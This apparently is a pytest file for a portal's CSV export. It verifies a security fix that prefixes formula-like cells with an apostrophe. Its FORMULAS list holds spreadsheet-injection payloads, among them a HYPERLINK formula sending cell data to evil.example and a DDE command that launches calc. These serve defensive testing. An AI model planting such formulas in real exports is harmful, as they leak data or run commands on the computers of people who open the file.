"""Finding 8: CSV exports neutralise cells a spreadsheet would run as formulas (OWASP: prefix with ')."""

from __future__ import annotations

import csv
import io

from portal import csvexport
from portal.releases import deliveries
from tests.releases.conftest import load

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Скачать")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\tпробел", "\rвозврат"]


def test_cell_prefixes_every_formula_start_and_keeps_the_rest():
    for value in FORMULAS:
        assert csvexport.cell(value) == "'" + value
    for value in ("Установлено", "", "a=b", 42, -3, None):
        assert csvexport.cell(value) == value


def test_delivery_export_does_not_carry_a_formula(api, db, world, published):
    note = FORMULAS[0]
    with db.session_scope() as s:
        deliveries.record_handover(session=s, actor=load(s, world.support), package_id=published,
                                   organization="vector", channel="email", note=note)
    r = api.get(world.support, "/deliveries/export.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + note in cells
    assert not any(c.startswith(csvexport.FORMULA_START) for c in cells), cells


def test_sla_csv_goes_through_the_same_writer(api, world):
    r = api.get(world.support, "/tickets/sla?since=2026-01-01&until=2026-01-31&format=csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "priority"
    assert not any(c.startswith(csvexport.FORMULA_START) for row in rows for c in row)
